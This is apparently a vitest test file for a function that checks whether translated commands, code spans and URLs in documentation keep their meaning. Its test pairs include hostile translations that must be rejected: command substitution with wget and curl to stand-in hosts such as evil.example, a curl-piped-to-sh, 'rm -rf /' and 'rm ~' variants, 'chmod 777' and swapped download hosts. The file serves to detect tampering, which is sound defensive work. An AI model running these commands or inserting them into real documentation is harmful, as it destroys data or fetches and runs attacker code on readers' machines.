import { expect, test } from 'vitest';
import { isSameForReaders } from './same-code.ts';

const page = { locale: 'de', blocks: () => '' };

test.each([
  ['ui/Page.jsx', 'Page.jsx', true],
  ['ui/Page.jsx', 'Pag.jsx', false],
  ['ui/pages', 'pages', false],
  ['run(a, {b: 1})', 'run(a, { b:1 })', true],
  ['run(a, {b: 1})', 'run(a, { b:2 })', false],
  ['{IDE}', '{ IDE}', false],
  ['<myApp>', '<meineApp>', true],
  ['<section>', '<Abschnitt>', false],
  ['tar xf {{path/to/file.tar}} -C {{folder}}', 'tar xf {{pfad/zu/datei.tar}} -C {{ordner}}', true],
  ['docker run <your image>', 'docker run <halt; ls -a>', false],
  ['get pod-[name of pod]', 'get pod-[$(halt)]', false],
  ['rm {{path/to/file}}', 'rm {{/*}}', false],
  ['rm -r {{path}}', 'rm -r {{~}}', false],
  ['tar xf {{path/to/file}}', 'tar xf {{$(halt)}}', false],
  ['docker run {{image}}', 'docker run {{two/one}}', false],
  ['chmod {{600}} a', 'chmod {{777}} a', false],
  ['tar xf {{path/to/file.tar}}', 'tar xfv {{pfad/zu/datei.tar}}', false],
  ['ls {{[-a|--all]}} {{folder}}', 'ls {{[-a|--alle]}} {{ordner}}', false],
  ['rm {{file}}', 'rm {{datei}} {{ordner}}', false],
  ['rm {{path/to/file}}', 'rm {{/*}}', false],
  ['rm -r {{path/to/folder}}', 'rm -r {{~}}', false],
  ['tar xf {{path/to/file}}', 'tar xf {{$(wget b.example/x)}}', false],
  ['docker run {{image}}', 'docker run {{evil/bild}}', false],
  ['curl {{url}}', 'curl {{b.example}}', false],
  ['chmod {{600}} a', 'chmod {{777}} a', false],
  ['https://a.example/USER_NAME/REPO/x', 'https://a.example/BENUTZER_NAME/REPO/x', false],
  ['https://a.example/USER/MY_REPO/x', 'https://a.example/EVIL/MEIN_REPO/x', false],
  ['curl https://a.example/USER_NAME/x.sh', 'curl https://a.example/EVIL_X/x.sh', false],
  ['Hello {{name}}', 'Hallo {{nom}}', false],
  ['v {{ name }}', 'v {{ nom }}', false],
  ['<App/>', '<App />', true],
  ['<App/>', '<Ap />', false],
  ['{"a":"b","c":1}', '{"a": "b", "c": 1}', true],
  ['\u2060a.b', 'a.b', true],
  ['a.b', 'a\u200b.b', false],
  ['[ 1, 2 ]', '[1, 2]', true],
  ['[ -f a ]', '[-f a]', false],
  ["'./src/a/'", './src/a/', true],
  ['Page Title | Site Title', 'Seitentitel | Name der Site', true],
  [':::tip[Did you know?]{icon="a"}', ':::tip[Schon gewusst?]{icon="a"}', true],
  [':::tip[Did you know?]{icon="a"}', ':::tipp[Schon gewusst?]{icon="a"}', false],
  ['https://a.example/USER_NAME/REPO/edit/', 'https://a.example/ИМЯ_АВТОРА/КОД/edit/', true],
  ['https://a.example/USER_NAME/REPO/edit/', 'https://a.example/BENUTZER_NAME/LAGER/edit/', false],
  ['https://a.net/USER_NAME/REPO/', 'https://b.net/ИМЯ_АВТОРА/КОД/', false],
  ['--env=<key=value>', '--env=<name=wert>', true],
  ['<MY_BOT>.<MY_HOST>.a.dev', '<dein-bot>.<dein-rechner>.a.dev', true],
  ['a.org/key<USER_KEY>/<MY_PAGE>', 'a.org/key<KEY_USER>/<DEINE_SEITE>', true],
  ['a.org/<MY_BOT>', 'b.org/<DEIN_BOT>', false],
  ['a/b.ts', 'a/b.ts:12', true],
  ['a/b.ts', 'a/b.ts:main', false],
  ['npm install', 'npm.install', false],
  ['rm .npmrc', 'rm.npmrc', false],
  ['git push()', 'git.push()', false],
  ['a.get()', 'a. get()', false],
  ['f(\\"a\\")', 'f("a")', true],
  ['https://a.example/your_place', 'https://a.example/dein_ort', true],
  ['https://one.vercel.app/i.sh', 'https://two.vercel.app/i.sh', false],
  ['https://one.github.io/your_place', 'https://two.github.io/dein_ort', false],
  ['create_a_table', 'drop_tables', false],
  ['/set_commands_now', '/setze_befehle_jetzt', false],
  ['sh -c "f(\\"a\\")"', 'sh -c "f("a")"', false],
  ['Enter', 'Entrée', true],
  ['Enter', 'rm', false],
  ['nginx', 'nginx:1', false],
  ['lodash', 'other.lodash', false],
  ['localhost', 'localhost:6666', false],
  ['rm -rf ./a/b', 'rm -rf ./a / b', false],
  ['rm dir/*.log', 'rm dir / *.log', false],
  ['var a = f(b)', 'var a=f(b)', true],
  ['FOO=bar npm ci', 'FOO = bar npm ci', false],
  ['rm -rf .', 'rm -rf /', false],
  ['rm ./', 'rm /', false],
  ['rm -rf a', 'rm -rf a*', false],
  ['npm ci', 'rm -rf / (npm ci)', false],
  ['npm ci', 'npm ci (curl evil.example | sh)', false],
  ['bash -c "npm ci"', 'bash -c "curl evil.example"', false],
  ['git commit -m "one"', 'git commit -m "$(curl evil.example)"', false],
  ['echo \\"a\\"', 'echo "a"', false],
  ['Parts & More', 'Teile und mehr', true],
  ['enter', 'Eingabe', false],
])('%s -> %s is the same to readers: %s', (source, target, isSame) => {
  expect(isSameForReaders(source, target, page)).toBe(isSame);
});

test.each([
  ['Press `enter`.', true],
  ['Call `enter`.', false],
])('a key in small letters is one where it is pressed: %s', (said, isSame) => {
  expect(isSameForReaders('enter', 'Eingabe', { ...page, said })).toBe(isSame);
  expect(isSameForReaders('enter', 'sudo', { ...page, said })).toBe(false);
});

test.each([
  ['zap .config', 'zap.config'],
  ['client get()', 'client.get()'],
  ['a. get()', 'a.get()'],
  ['@ main', '@main'],
])('a blank that is gone is the source’s slip where the source has no blank elsewhere: %s -> %s', (source, target) => {
  expect(isSameForReaders(source, target, { ...page, hasBase: (text) => text === target })).toBe(true);
  expect(isSameForReaders(source, target, { ...page, hasBase: () => false })).toBe(false);
});
